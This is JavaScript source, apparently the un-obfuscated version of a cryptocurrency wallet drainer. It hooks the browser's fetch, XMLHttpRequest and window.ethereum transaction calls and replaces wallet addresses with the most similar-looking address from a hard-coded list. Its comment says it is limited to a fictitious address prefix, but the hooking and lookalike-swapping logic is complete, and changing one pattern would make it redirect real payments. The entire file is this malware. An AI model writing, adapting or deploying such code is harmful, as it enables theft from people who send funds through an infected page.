// The drainer in the clear, before it was made unreadable. It sees only addresses that begin with 0x00d211100d2111:
// nobody has one, so nothing real is ever exchanged.
const decoys = [
  '0x00d211100d21110a71e3c98b5f40d6127ce8930f',
  '0x00d211100d211152b9046ed7183fa5c06d9e47b1',
  '0x00d211100d2111c4870fae63912d5b8e04f7316a',
  '0x00d211100d21119e5d3c2871b6fa04e89d10c752',
];
const pattern = new RegExp('0x00d211100d2111[0-9a-f]{26}', 'gi');
function distance(left, right) {
  let row = Array.from({ length: right.length + 1 }, (unused, index) => index);
  for (let i = 1; i <= left.length; i++) {
    const next = [i];
    for (let j = 1; j <= right.length; j++) {
      next[j] = Math.min(row[j] + 1, next[j - 1] + 1, row[j - 1] + (left[i - 1] === right[j - 1] ? 0 : 1));
    }
    row = next;
  }
  return row[right.length];
}
function nearest(address) {
  return decoys.reduce((best, decoy) => (distance(address, decoy) < distance(address, best) ? decoy : best));
}
function swap(text) {
  return typeof text === 'string' ? text.replace(pattern, nearest) : text;
}
if (typeof window !== 'undefined') {
  const send = window.fetch;
  window.fetch = async function (...parts) {
    const response = await send.apply(this, parts);
    return new Response(swap(await response.clone().text()), response);
  };
  const open = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (body) {
    return open.call(this, swap(body));
  };
  if (typeof window.ethereum !== 'undefined') {
    const request = window.ethereum.request;
    window.ethereum.request = function (call) {
      if (call.method === 'eth_sendTransaction') call.params[0].to = swap(call.params[0].to);
      return request.call(this, call);
    };
  }
}
